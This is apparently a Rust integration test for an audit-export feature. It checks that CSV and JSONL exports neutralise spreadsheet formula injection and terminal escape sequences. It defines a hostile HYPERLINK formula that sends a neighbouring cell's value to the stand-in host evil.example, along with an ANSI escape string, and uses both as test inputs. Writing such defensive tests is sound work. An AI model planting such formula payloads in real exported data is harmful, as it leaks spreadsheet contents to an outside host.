//! Hostile text reaching an auditor's spreadsheet or terminal through the audit export:
//! sign-in attempts for users named like a spreadsheet formula or with a terminal
//! escape sequence never reach the log (no account can have such a name), and free
//! text that does (an early-seal reason, opened for the auditor) is neutralised in CSV
//! and JSON (OWASP CSV injection; control characters).

use crate::common::daemon::credentials;
use crate::common::tmux::demo_store;
use crate::common::*;

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&B2,\"Click me\")";
const ESCAPE: &str = "mallory\u{1b}[2Jx";
const SECURITY: (&str, &str) = ("zhao.an", "demo security harbour lantern");
const AUDITOR: (&str, &str) = ("he.audit", "demo auditor harbour lantern");

#[test]
fn formula_and_escape_sequences_are_neutralised_in_audit_exports() {
    let (_tmp, dir) = demo_store();
    // Two failed sign-ins through the command line, as anyone on the server could.
    for user in [FORMULA, ESCAPE] {
        let out = run_caredesk(
            Some(&dir),
            &["user", "list"],
            &format!("{user}\nwrong password\n123456\n"),
        );
        assert!(!out.status.success());
    }
    // Free text an administrator types: an early audit seal whose reason is a formula
    // with an escape sequence.
    let reason = format!("{FORMULA} {ESCAPE}");
    let seal = run_caredesk(
        Some(&dir),
        &["audit", "rotate-epoch", "--reason", &reason],
        &credentials(SECURITY),
    );
    assert!(seal.status.success(), "{}", text(&seal.stderr));
    let csv_out = run_caredesk(
        Some(&dir),
        &["audit", "export", "--format", "csv", "--open"],
        &credentials(AUDITOR),
    );
    assert!(csv_out.status.success(), "{}", text(&csv_out.stderr));
    assert!(!csv_out.stdout.contains(&0x1b), "raw ESC in the CSV export");
    let mut reader = csv::Reader::from_reader(csv_out.stdout.as_slice());
    let mut reason_seen = false;
    for record in reader.records() {
        let record = record.unwrap();
        for cell in record.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "a cell a spreadsheet would run: {cell:?}"
            );
            assert!(!cell.chars().any(char::is_control), "{cell:?}");
            // The names never reached the log: no account can have them.
            assert!(
                !cell.contains("Click me\")") || cell.contains("mallory"),
                "{cell:?}"
            );
            reason_seen |= cell.contains("HYPERLINK") && cell.contains("mallory\u{fffd}[2Jx");
        }
    }
    assert!(reason_seen, "the early seal's reason is not in the export");

    let json_out = run_caredesk(
        Some(&dir),
        &["audit", "export", "--format", "jsonl", "--open"],
        &credentials(AUDITOR),
    );
    assert!(json_out.status.success(), "{}", text(&json_out.stderr));
    assert!(
        !json_out.stdout.contains(&0x1b),
        "raw ESC in the JSON export"
    );
    let users: Vec<String> = text(&json_out.stdout)
        .lines()
        .filter_map(|l| {
            serde_json::from_str::<serde_json::Value>(l).unwrap()["user"]
                .as_str()
                .map(str::to_string)
        })
        .collect();
    assert!(
        users.iter().all(|u| u != FORMULA && u != ESCAPE),
        "a name no account can have reached the log"
    );
}
